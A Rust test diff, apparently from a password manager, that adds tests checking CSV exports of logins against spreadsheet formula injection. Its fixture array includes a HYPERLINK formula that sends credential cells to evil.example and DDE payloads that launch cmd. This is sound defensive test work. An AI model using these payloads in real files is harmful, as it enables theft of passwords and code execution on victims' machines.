@@ -406,12 +406,120 @@ fn writers_quote_what_needs_quoting() {
     write(Format::ChromeCsv, &[login.clone()], &[], &mut out).unwrap();
     assert_eq!(
         String::from_utf8(out).unwrap(),
-        "name,url,username,password,note\nexample.com,https://example.com,\"a,b\",\"p\"\"w\nx\",n\n"
+        "\"name\",\"url\",\"username\",\"password\",\"note\"\n\"example.com\",\"https://example.com\",\"a,b\",\"p\"\"w\nx\",\"n\"\n"
     );
     let mut out = Vec::new();
     write(Format::KeepassxcCsv, &[login], &[], &mut out).unwrap();
     let text = String::from_utf8(out).unwrap();
     assert!(text.starts_with("\"Group\",\"Title\",\"Username\",\"Password\",\"URL\",\"Notes\",\"TOTP\",\"Icon\",\"Last Modified\",\"Created\"\n\"Root\",\"example.com\",\"a,b\""), "{text}");
+}
+
+/// Values that a spreadsheet runs as formulas (OWASP's first characters), and ones that only
+/// look close.
+const FORMULA_LIKE: [&str; 9] = [
+    "=HYPERLINK(\"https://evil.example/?\"&D2&D3,\"Click\")",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=",
+    "'=1+1",
+    "''-x",
+];
+const NOT_FORMULAS: [&str; 7] = ["'", "''", "'abc", "a=b", "x;=1+1", " =1", "plain"];
+
+/// Logins with every [`FORMULA_LIKE`] and [`NOT_FORMULAS`] value as name, username, password
+/// and notes.
+fn formula_logins() -> Vec<ImportedLogin> {
+    FORMULA_LIKE
+        .iter()
+        .chain(&NOT_FORMULAS)
+        .map(|value| {
+            let mut login = ImportedLogin::new(
+                Origin::parse("https://example.com").unwrap(),
+                value,
+                Password::new(*value),
+            );
+            login.name = (*value).to_owned();
+            login.notes = (*value).to_owned();
+            login
+        })
+        .collect()
+}
+
+/// Issue 13, point 8: a name (or any value) from a web page must not become a live formula when
+/// a CSV export is opened in a spreadsheet.
+#[test]
+fn csv_exports_open_in_spreadsheets_as_text() {
+    let logins = formula_logins();
+    for format in Format::ALL.into_iter().filter(|f| f.is_csv()) {
+        let mut written = Vec::new();
+        write(format, &logins, &[], &mut written).unwrap();
+        // What a spreadsheet sees: the cells, quotes and all but unescaped.
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(written.as_slice());
+        let mut cells = 0;
+        for record in reader.records() {
+            for cell in record.unwrap().iter() {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{format}: {cell:?} would run as a formula"
+                );
+                cells += 1;
+            }
+        }
+        assert!(cells > logins.len() * 3, "{format}: {cells} cells");
+        // Every field quoted, so that a spreadsheet splitting on `;` keeps `x;=1+1` one cell.
+        let text = String::from_utf8(written).unwrap();
+        assert!(text.contains("\"x;=1+1\""), "{format}: {text}");
+    }
+}
+
+#[test]
+fn formula_guards_round_trip_every_value_exactly() {
+    let logins = formula_logins();
+    for format in Format::ALL {
+        let mut written = Vec::new();
+        write(format, &logins, &[], &mut written).unwrap();
+        let back = read(format, written.as_slice()).unwrap();
+        let a: Vec<_> = logins.iter().map(|l| comparable(format, l)).collect();
+        let b: Vec<_> = back.logins.iter().map(|l| comparable(format, l)).collect();
+        assert_eq!(a, b, "{format}");
+        // Each row that had a guard is reported.
+        let want = if format.is_csv() {
+            FORMULA_LIKE.len()
+        } else {
+            0
+        };
+        assert_eq!(back.formula_guards.len(), want, "{format}");
+        assert!(back.skipped.is_empty(), "{format}: {:?}", back.skipped);
+    }
+    assert_eq!(
+        altered_sign_ins(Format::ChromeCsv, &logins),
+        FORMULA_LIKE.len()
+    );
+    assert_eq!(altered_sign_ins(Format::Cxf, &logins), 0);
+}
+
+#[test]
+fn only_a_quote_before_a_formula_is_taken_as_a_guard() {
+    let parsed = read(
+        Format::ChromeCsv,
+        "name,url,username,password\n'Bob's,https://x.example,'abc,'-pw\nx,https://y.example,u,'pw\n"
+            .as_bytes(),
+    )
+    .unwrap();
+    assert_eq!(
+        summary(&parsed),
+        [
+            row(2, "https://x.example", "'abc", "-pw"),
+            row(3, "https://y.example", "u", "'pw"),
+        ]
+    );
+    assert_eq!(parsed.logins[0].name, "'Bob's");
+    assert_eq!(parsed.formula_guards, [2]);
 }
 
 #[test]
